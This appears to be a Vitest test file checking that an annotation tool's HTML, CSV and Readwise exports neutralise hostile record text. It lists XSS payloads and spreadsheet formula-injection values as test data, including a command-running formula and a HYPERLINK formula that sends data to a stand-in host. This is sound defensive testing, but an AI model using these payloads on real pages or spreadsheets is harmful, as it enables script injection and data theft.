// @vitest-environment happy-dom
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Annotation, ArticleRecord } from '#core/annotation.ts';
import { csv } from '#core/export/csv.ts';
import { html } from '#core/export/html.ts';
import { citationHtml, quotedHtml } from '#core/export/passage-html.ts';
import { readwise } from '#core/export/readwise.ts';
import { hostileAnnotation, hostileArticle } from './hostile-record.ts';
import { written } from './written.ts';

/** Exports to CSV and HTML carry no active content: whatever stands in a record is words to whoever opens the file. */

const active = [
  '<script>ran()</script>',
  '</title><script>ran()</script>',
  '</style><img src=x onerror=ran()>',
  `"><img src="https://spy.example/a.png" onload="ran()">`,
  `' onmouseover='ran()' x='`,
  '<svg/onload=ran()><animate onbegin=ran()>',
  '<iframe srcdoc="<script>ran()</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://spy.example/">',
  '<link rel="stylesheet" href="https://spy.example/a.css"><base href="https://spy.example/">',
  '<!-- --!> <script>ran()</script>',
  '<a href="java\nscript:ran()">a</a> javascript:ran() data:text/html,<script>ran()</script>',
  '&lt;script&gt;ran()&lt;/script&gt; &#60;script&#62;',
  '<scr\u0000ipt>ran()</scr\u0000ipt>\u202e<b>',
];

const formulas = [
  '=1+1',
  '+1-1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(A1:A9)',
  '=HYPERLINK("https://spy.example/?"&A1,"a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20A1',
  "'=1+1",
  '"=1+1',
];

interface Kept {
  readonly annotations: readonly Annotation[];
  readonly articles: readonly ArticleRecord[];
}
const kept = (words: string, source?: string): Kept => ({
  annotations: [hostileAnnotation(words, source)],
  articles: [hostileArticle(words, source)],
});

const elements = new Set(
  'html head meta title style body main h1 h2 p a section figure blockquote figcaption div b bdi br'.split(
    ' ',
  ),
);
const attributes = new Set('lang dir charset name content http-equiv class href rel id cite'.split(' '));

/** What a page holds beside words: elements and attributes that we do not write, and where its links lead. */
function activeIn(document: Document): readonly string[] {
  return [...document.querySelectorAll('*')].flatMap((element) => {
    const name = element.localName;
    const strange = [...element.attributes].filter(
      (attribute) =>
        !attributes.has(attribute.name) ||
        (attribute.name === 'href' && !/^https?:\/\//.test(attribute.value)) ||
        (attribute.name === 'http-equiv' && attribute.value !== 'Content-Security-Policy'),
    );
    const odd = strange.map((attribute) => `${name} ${attribute.name}=${attribute.value}`);
    return elements.has(name) ? odd : [name, ...odd];
  });
}

const parse = (text: string): Document => new DOMParser().parseFromString(text, 'text/html');

describe('HTML', () => {
  it.each([...active, ...formulas])('of %j holds nothing but words', (words) => {
    const page = parse(written(html, kept(words), { title: words }));
    expect(activeIn(page)).toEqual([]);
    expect(page.querySelectorAll('style, title, meta[http-equiv]')).toHaveLength(3);
    expect(page.querySelectorAll('figure')).toHaveLength(1);
    for (const text of [quotedHtml(hostileAnnotation(words), hostileArticle(words)), citationHtml(words)])
      expect(activeIn(parse(text))).toEqual([]);
  });

  it.each(['javascript:ran()', 'data:text/html,<script>ran()</script>', 'file:///etc/passwd'])(
    'has no link to %s, wherever a record says that it is from',
    (source) => {
      const page = parse(written(html, kept('words', source)));
      expect(activeIn(page)).toEqual([]);
      expect(page.querySelectorAll('figure')).toHaveLength(1);
    },
  );

  it('says by its own policy that it may run and load nothing', () => {
    const page = parse(written(html, kept('words')));
    expect(page.querySelector('meta[http-equiv]')?.getAttribute('content')).toBe(
      "default-src 'none'; style-src 'unsafe-inline'",
    );
  });
});

describe.each([csv, readwise])('$format', (format) => {
  it.each([...formulas, ...active])('of %j has no cell that a spreadsheet would work out', (words) => {
    const text = written(format, kept(words));
    const { data } = Papa.parse(text.trimEnd(), { newline: '\r\n', delimiter: ',' });
    expect(data).toHaveLength(2);
    const begun = data.flat().filter((cell) => /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/.test(cell));
    expect(begun).toEqual([]);
    // It is kept all the same: behind an apostrophe where it would be a formula.
    const plain = words.trim().slice(0, 4);
    expect(data.flat().some((cell) => cell.includes(plain))).toBe(true);
  });
});
